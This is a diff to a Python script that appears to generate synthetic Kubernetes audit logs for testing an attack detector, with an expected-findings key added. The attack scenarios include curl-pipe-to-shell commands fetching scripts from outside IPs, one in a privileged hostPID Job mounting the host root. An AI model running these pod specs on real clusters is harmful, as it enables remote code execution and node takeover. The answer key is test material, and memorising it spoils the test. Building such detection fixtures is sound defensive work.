@@ -29,9 +29,9 @@ def write_demo(path):
     b.stored_cronjob("shop", "abandoned-cart-gc", "*/30 * * * *", gc, log.t - dt.timedelta(days=12))
     t1 = dt.datetime(2025, 6, 12, 1, 0, 0)
     log.t = max(log.t, t1 + dt.timedelta(milliseconds=140))
-    b.tick("reporting", "nightly-report", t1)
+    routine = [b.tick("reporting", "nightly-report", t1)[0]]
     noise.burst(6)
-    b.tick("shop", "abandoned-cart-gc", t1)
+    routine.append(b.tick("shop", "abandoned-cart-gc", t1)[0])
     noise.burst(8)
 
     # attack 1: stolen admin kubeconfig creates an every-minute curl | sh CronJob
@@ -45,8 +45,8 @@ def write_demo(path):
     noise.burst(4)
     spec = podspec([container("logrotate", "alpine:3.19", ["/bin/sh", "-c"],
                               ["apk add -q curl; curl -fsSL http://193.142.146.35:8080/lr.sh | sh"])], restart="OnFailure")
-    b.create_cronjob(ns="shop", name="logrotate", schedule="* * * * *", pod_spec=spec, user=admin, ua=ua, ips=ip, reason=reason,
-                     success_hist=0, failed_hist=0)
+    a1 = b.create_cronjob(ns="shop", name="logrotate", schedule="* * * * *", pod_spec=spec, user=admin, ua=ua, ips=ip, reason=reason,
+                          success_hist=0, failed_hist=0)
     noise.burst(6)
 
     # attack 2: a leaked CI token hijacks the nightly report CronJob
@@ -66,7 +66,7 @@ def write_demo(path):
         ct["command"] = ["/bin/sh", "-c"]
         ct["args"] = patch["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"]
         return o
-    b.patch_cronjob(ns="reporting", name="nightly-report", patch=patch, new_obj_fn=mutate, user=ci, ua=ua2, ips=ip2, reason=reason2)
+    a2 = b.patch_cronjob(ns="reporting", name="nightly-report", patch=patch, new_obj_fn=mutate, user=ci, ua=ua2, ips=ip2, reason=reason2)
     noise.burst(8)
 
     # routine: Helm post-upgrade hook from CI during the morning deploy
@@ -76,9 +76,9 @@ def write_demo(path):
     mig = podspec([container("migrate", "registry.example.org/shop/api:3.8.2", ["./bin/migrate"], ["up"], sc=sc_restricted(10001))],
                   restart="Never", sa="shop-api")
     hreason = rbac_reason_rb("deployer", "shop", "ClusterRole", "admin", "ServiceAccount", "deployer/gitlab-runner")
-    b.create_job(ns="shop", name="shop-api-db-migrate", pod_spec=mig, user=runner, ua="Helm/3.14.2", ips=[c.pod_ip()], uri_query="?fieldManager=helm",
+    routine.append(b.create_job(ns="shop", name="shop-api-db-migrate", pod_spec=mig, user=runner, ua="Helm/3.14.2", ips=[c.pod_ip()], uri_query="?fieldManager=helm",
                  reason=hreason, labels=hl, annotations={"helm.sh/hook": "post-upgrade", "helm.sh/hook-delete-policy": "before-hook-creation"},
-                 tmpl_labels=hl, backoff=1)
+                 tmpl_labels=hl, backoff=1)[0])
     b.run_job("shop", "shop-api-db-migrate")
     noise.burst(6)
 
@@ -86,8 +86,9 @@ def write_demo(path):
     log.t = dt.datetime(2025, 6, 12, 10, 21, 55, 700213)
     pod = f"storefront-{rand_suffix(rng, 10)}-{rand_suffix(rng)}"
     sa = c.sa("shop", "storefront", pod)
+    a3 = []
     for ns, r in [("shop", "cronjobs"), ("kube-system", "jobs")]:
-        b.forbidden(verb="create", resource=r, ns=ns, user=sa, ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ips=[c.pod_ip()])
+        a3.append(b.forbidden(verb="create", resource=r, ns=ns, user=sa, ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625", ips=[c.pod_ip()]))
         noise.burst(3)
 
     # routine: SRE re-runs the report by hand
@@ -96,9 +97,9 @@ def write_demo(path):
     sua = c.kubectl_ua("darwin/arm64", "1.29.3")
     sreason = rbac_reason_crb("platform-sre-admin", "cluster-admin", "Group", "oidc:platform-sre")
     cj = b.cronjobs[("shop", "abandoned-cart-gc")]
-    b.create_job(ns="shop", name="abandoned-cart-gc-manual-2", pod_spec=copy.deepcopy(cj["spec"]["jobTemplate"]["spec"]["template"]["spec"]),
+    routine.append(b.create_job(ns="shop", name="abandoned-cart-gc-manual-2", pod_spec=copy.deepcopy(cj["spec"]["jobTemplate"]["spec"]["template"]["spec"]),
                  user=sre, ua=sua, ips=["10.8.14.3"], reason=sreason, owners=[owner("CronJob", "abandoned-cart-gc", cj["metadata"]["uid"], block=None)],
-                 annotations={"cronjob.kubernetes.io/instantiate": "manual"})
+                 annotations={"cronjob.kubernetes.io/instantiate": "manual"})[0])
     b.run_job("shop", "abandoned-cart-gc-manual-2")
     noise.burst(6)
 
@@ -108,8 +109,20 @@ def write_demo(path):
                              ["sh", "-c", "curl -sk https://45.155.205.99/ks | sh"], mounts=[mount("host-root", "/host")], sc={"privileged": True})],
                   volumes=[hostpath_vol("host-root", "/")], host_pid=True, host_net=True, restart="Never",
                   tolerations=[{"operator": "Exists"}])
-    b.create_job(ns="kube-system", name="kube-proxy-sync", pod_spec=esc, user=ci, ua=ua2, ips=ip2,
+    a4, _ = b.create_job(ns="kube-system", name="kube-proxy-sync", pod_spec=esc, user=ci, ua=ua2, ips=ip2,
                  reason=rbac_reason_crb("ci-deployer-system", "cluster-admin", "ServiceAccount", "deployer/ci"), ttl=5,
                  labels={"k8s-app": "kube-proxy"})
     noise.burst(10)
     log.write(path)
+    return {
+        "file": "examples/audit-demo.jsonl",
+        "description": "a day of routine batch traffic (controller ticks, a Helm hook, an SRE manual run) with four attacks",
+        "min_severity": "medium",
+        "attacks": [
+            {"description": "stolen kubeadm admin credentials create an every-minute curl | sh CronJob with history limits 0", "must_cite": [a1]},
+            {"description": "leaked CI token patches the nightly-report CronJob: new image registry, curl | sh appended", "must_cite": [a2]},
+            {"description": "compromised storefront pod token tries to create a CronJob and a kube-system Job (403)", "must_cite": a3},
+            {"description": "privileged hostPID Job named kube-proxy-sync in kube-system runs nsenter -t 1 and curl | sh", "must_cite": [a4]},
+        ],
+        "routine_below_medium": routine,
+    }
